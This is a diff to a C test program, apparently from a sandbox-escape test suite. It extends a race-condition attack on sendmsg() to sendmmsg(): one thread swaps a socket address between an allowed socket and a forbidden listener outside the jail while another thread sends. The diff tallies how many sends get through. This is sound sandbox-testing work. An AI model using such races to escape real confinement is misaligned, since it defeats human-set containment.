@@ -1,11 +1,13 @@
-/* e0107-toctou-sendmsg - argument TOCTOU on the msg_name of sendmsg().
+/* e0107-toctou-sendmsg - argument TOCTOU on the msg_name of sendmsg()
+ * and sendmmsg().
  *
  * Attack: sendmsg() takes its destination from a struct msghdr in the
  * program's memory, pointing to a sockaddr elsewhere in it: two levels of
- * pointers the kernel reads after any check.  One thread flips the
- * sun_path of that sockaddr between the program's own datagram socket
- * and a forbidden one (a listener outside the jail that counts), while
- * another thread sends.
+ * pointers the kernel reads after any check (three for sendmmsg, whose
+ * vector holds the msghdrs).  One thread flips the sun_path of that
+ * sockaddr between the program's own datagram socket and a forbidden one
+ * (a listener outside the jail that counts), while another thread sends,
+ * by sendmsg and by sendmmsg in turn.
  * Source: Watson 2007 (sockaddr races in system call wrappers);
  * doc/races.md ("sendmsg/sendmmsg: msg_name ... read by the kernel from
  * the program's memory").
@@ -51,26 +53,31 @@ int main(int argc, char **argv)
 	struct iovec iov = { (void *)"x", 1 };
 	struct msghdr m = { .msg_name = &sa, .msg_namelen = sizeof sa,
 			    .msg_iov = &iov, .msg_iovlen = 1 };
+	struct mmsghdr mm[2] = { { .msg_hdr = m }, { .msg_hdr = m } };
 	pthread_t t;
 	if (pthread_create(&t, NULL, flipper, NULL) != 0)
 		esc_die("pthread_create");
 	struct esc_race r;
-	long sent = 0, refused = 0;
+	long sent[2] = { 0, 0 }, refused[2] = { 0, 0 };	/* [1]: sendmmsg */
 	int last = 0;
 	char drain[16];
 	esc_race_init(&r);
 	while (esc_race_go(&r)) {
-		if (sendmsg(s, &m, MSG_DONTWAIT) >= 0) {
-			sent++;
+		int mmsg = r.tries % 2;
+		int n = mmsg ? sendmmsg(s, mm, 2, MSG_DONTWAIT) : sendmsg(s, &m, MSG_DONTWAIT);
+		if (n >= 0) {
+			sent[mmsg]++;
 		} else {
-			refused++;
+			refused[mmsg]++;
 			last = errno;
 		}
 		while (recv(mine, drain, sizeof drain, MSG_DONTWAIT) > 0)
 			;
 	}
-	printf("sendmsg race: %ld tries, %ld sent, %ld refused%s%s\n", r.tries, sent, refused,
-	       refused ? ", last " : "", refused ? esc_errno_name(last) : "");
+	printf("sendmsg race: %ld tries; sendmsg %ld sent, %ld refused; sendmmsg %ld sent, "
+	       "%ld refused%s%s\n", r.tries, sent[0], refused[0], sent[1], refused[1],
+	       refused[0] + refused[1] ? "; last " : "",
+	       refused[0] + refused[1] ? esc_errno_name(last) : "");
 	stop = 1;
 	pthread_join(t, NULL);
 	unlink(allowed);
